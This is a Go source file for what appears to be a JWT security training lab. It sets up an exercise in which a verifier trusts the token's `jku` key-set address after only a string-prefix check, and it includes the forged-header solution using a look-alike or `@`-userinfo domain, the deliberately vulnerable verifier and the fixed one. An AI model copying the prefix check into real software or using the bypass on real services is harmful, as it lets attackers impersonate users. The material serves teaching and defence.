package attack

import (
	"crypto/ecdsa"
	"encoding/json"
	"errors"
	"strings"

	"github.com/go-jose/go-jose/v4"
	"github.com/golang-jwt/jwt/v5"

	"claimcheck/playground"
	"claimcheck/playground/spec"
)

func (l *Lab) keyAddress() Attack {
	const header = `{"alg":"ES256","typ":"at+jwt","kid":"acme-1","jku":"https://acme.example/jwks"}`
	mine := l.sign(header, l.claims("mallory"), l.key, "ES256")
	return Attack{
		ID: "key-address", Title: "A token that says where its key is", Line: "The verifier fetches keys from an address in the header.",
		Story: []string{
			"AcmeID’s tokens carry `jku`, the address of its key set, and StepCloud fetches the set from there. It is careful: the address must begin with `https://acme.example`.",
			"Mallory owns a domain and serves what she likes, under every name that ends in `.mallory.example`. The internet of this story is a function in this process; nothing is really fetched.",
		},
		Task: "Make StepCloud fetch your key set, and be `alice`.",
		Hint: "What begins with `https://acme.example` and leads to Mallory? `https://acme.example.mallory.example/jwks` does, and so does `https://acme.example@mallory.example/jwks`. The `kid` must be in your set.",
		Spec: spec.Ref{Name: "RFC 7515", Section: "4.1.2"}, Known: []string{"CVE-2026-48522"},
		Cure: "The address is a setting of the verifier. Then there is no prefix to get right, and nobody outside decides what StepCloud’s servers fetch (RFC 8725 §3.10).",
		Loot: []Item{{"Her own access token", mine}},
		Fields: []Field{
			{Name: "header", Label: "Header", Part: playground.PartHeader, Start: header, Solution: `{"alg":"ES256","typ":"at+jwt","kid":"mallory-1","jku":"https://acme.example.mallory.example/jwks"}`},
			{Name: "payload", Label: "Payload", Part: playground.PartPayload, Start: l.claims("mallory"), Solution: l.claims("alice")},
			l.malloryKey(),
			{Name: "served", Label: "What Mallory’s servers answer", Start: l.keySet(l.malloryPublic()), Solution: l.keySet(l.malloryPublic())},
		},
		Check: l.check(),
		api:   l.api, wants: "alice", genuine: mine, forge: signWithKey,
		vulnerable: keyAddressVulnerable, fixed: keyAddressFixed, helpers: []string{"fetchKey"},
	}
}

func keyAddressVulnerable(api *API, raw string) (string, error) {
	claims := jwt.MapClaims{}
	parser := jwt.NewParser(jwt.WithValidMethods([]string{"ES256"}), jwt.WithTimeFunc(api.Now))
	_, err := parser.ParseWithClaims(raw, claims, func(t *jwt.Token) (any, error) {
		jku, _ := t.Header["jku"].(string)
		if !strings.HasPrefix(jku, "https://acme.example") {
			return nil, errors.New("jku is not an address of AcmeID")
		}
		return fetchKey(api, jku, t.Header["kid"])
	})
	if err != nil {
		return "", err
	}
	return claims.GetSubject()
}

func keyAddressFixed(api *API, raw string) (string, error) {
	claims := jwt.MapClaims{}
	parser := jwt.NewParser(jwt.WithValidMethods([]string{"ES256"}), jwt.WithTimeFunc(api.Now))
	_, err := parser.ParseWithClaims(raw, claims, func(t *jwt.Token) (any, error) {
		return fetchKey(api, "https://acme.example/jwks", t.Header["kid"])
	})
	if err != nil {
		return "", err
	}
	return claims.GetSubject()
}

// fetchKey fetches a key set and takes the key with this name.
func fetchKey(api *API, address string, kid any) (*ecdsa.PublicKey, error) {
	text, err := api.Fetch(address)
	if err != nil {
		return nil, err
	}
	var set jose.JSONWebKeySet
	if err := json.Unmarshal(text, &set); err != nil {
		return nil, err
	}
	name, _ := kid.(string)
	for _, jwk := range set.Key(name) {
		if key, ok := jwk.Key.(*ecdsa.PublicKey); ok {
			return key, nil
		}
	}
	return nil, errors.New("no EC key of that name in the set")
}
